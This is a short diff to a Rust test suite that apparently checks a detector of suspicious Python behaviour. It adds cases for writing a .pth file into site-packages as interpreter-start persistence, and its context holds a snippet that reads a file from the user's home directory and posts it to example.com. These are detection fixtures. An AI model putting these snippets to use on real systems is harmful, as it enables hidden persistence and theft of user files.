@@ -206,6 +206,8 @@ fn told(steps: &[Step], feature: Feature, detail: &str) -> bool {
 )]
 #[case::tracer("import sys\nsys.settrace(f)", Feature::CheckEnvironment, "", false)]
 #[case::zones("z = {'Europe/Moscow': 1, 'Europe/London': 2}", Feature::CheckEnvironment, "", false)]
+#[case::weights("import torch\ntorch.save(a, 'model.pth')", Feature::Persist, "", false)]
+#[case::start_file("open('/usr/lib/python3/site-packages/a.pth', 'w')", Feature::Persist, "interpreter start", true)]
 #[case::zone("x = zone == 'Europe/Moscow'", Feature::CheckEnvironment, "locale", true)]
 #[case::place_of_a_file(
     "import os, requests\nh = os.path.expanduser('~') + os.getlogin()\nrequests.post('https://example.com', data=open(h + '/a.txt').read())",
